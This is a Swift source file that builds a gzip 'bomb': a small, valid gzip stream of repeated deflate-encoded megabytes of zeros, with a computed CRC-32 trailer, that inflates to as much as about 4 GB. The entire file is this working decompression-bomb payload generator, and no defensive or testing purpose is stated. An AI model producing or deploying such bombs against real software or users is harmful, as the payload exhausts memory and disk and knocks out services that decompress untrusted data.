/// Zeros, compressed (gzip, RFC 1952) to about a thousandth. Made piece by piece: it takes no memory to speak of.
struct GzipBomb {
    /// How many megabytes (2^20 bytes) it becomes, at least one.
    let megabytes: Int

    init(megabytes: Int) {
        self.megabytes = min(max(megabytes, 1), Self.most)
    }

    /// Four gigabytes less one: the length in a trailer has 32 bits.
    private static let most = 4095

    static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]

    /// A megabyte of zeros as deflate (RFC 1951) has it, on its own and ending on a whole byte, so that it can be repeated:
    /// a code of one bit for the longest match and one for its distance, 1016 bytes of both.
    static let megabyte: [UInt8] =
        [0xEC, 0xC1, 0x31, 0x01, 0, 0, 0, 0xC2, 0xA0, 0xF5, 0x4F, 0x6D, 0x08, 0x5F, 0xA0]
        + Array(repeating: 0, count: 1016) + [0x3E, 0x03, 0, 0, 0xFF, 0xFF]

    /// The last block, empty, and what everything is checked by.
    var trailer: [UInt8] {
        let length = UInt32(megabytes) << 20
        return [0x03, 0x00] + Self.bytes(Self.checksum(zeros: length)) + Self.bytes(length)
    }

    private static func bytes(_ value: UInt32) -> [UInt8] {
        [0, 8, 16, 24].map { UInt8(truncatingIfNeeded: value >> $0) }
    }

    /// CRC-32 of so many zeros, without looking at each: it is the start value times x⁸ to their power, as polynomials.
    static func checksum(zeros count: UInt32) -> UInt32 {
        var (rest, square, power) = (count, UInt32(1) << 23, UInt32(1) << 31)
        while rest > 0 {
            if rest & 1 == 1 { power = product(power, square) }
            square = product(square, square)
            rest >>= 1
        }
        return ~product(power, .max)
    }

    /// The product of two polynomials over bits, modulo that of CRC-32; the highest bit is the constant.
    private static func product(_ one: UInt32, _ other: UInt32) -> UInt32 {
        var (sum, shifted) = (UInt32(0), other)
        for bit in stride(from: 31, through: 0, by: -1) {
            if one >> UInt32(bit) & 1 == 1 { sum ^= shifted }
            shifted = shifted & 1 == 1 ? shifted >> 1 ^ 0xEDB8_8320 : shifted >> 1
        }
        return sum
    }
}
